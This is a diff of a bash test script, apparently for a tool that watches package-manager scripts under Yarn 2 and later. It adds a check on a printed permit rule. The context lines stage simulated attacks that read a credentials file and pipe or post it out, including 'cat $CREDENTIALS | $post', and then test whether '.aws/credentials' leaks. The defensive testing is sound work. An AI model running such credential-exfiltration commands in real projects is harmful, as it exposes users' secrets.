@@ -1,7 +1,7 @@
 #!/bin/bash
-# M09: Yarn 2 and later run scripts in a shell of their own, in the manager's process, and that
-# process opens what a script redirects. What no manager does itself is judged there; what the
-# project's own scripts redirect, and what honest packages do, is not.
+# M09: Yarn 2 and later run scripts in a shell of their own, in the manager's process, which opens
+# what a script redirects. What managers never do by themselves is stopped there. What the project's
+# own scripts redirect is not judged, and honest packages redirect in their directories.
 # vm: no (downloads the manager)
 set -u
 cd "$(dirname "$0")/../.." || exit 2
@@ -42,6 +42,15 @@ has() { [ -s "$RT_HOME/$1" ]; }
 
 attack read-x "$post $CREDENTIALS" sent
 rt_accused read-x credentials
+# The permit that is printed excepts this package there, too, and not node.
+mkdir "$LAB/permit"
+sed -n 's/^  permit   [^{]*\({.*}\)$/\1/p' "$LAB/out.$RT_LANE" >"$LAB/permit/t.json"
+rt_is 'the permit' "$(jq -c .unless "$LAB/permit/t.json")" '{"package":["read-x"]}'
+LAB_WORMSIGN_ARGS="--rules $LAB/permit"
+if rt_guarded permitted; then
+	rt_leaked .aws/credentials
+fi
+LAB_WORMSIGN_ARGS=
 attack pipe-x "cat $CREDENTIALS | $post" sent
 LINKER=pnp
 attack second-x "node -e 1 && $post $CREDENTIALS" sent
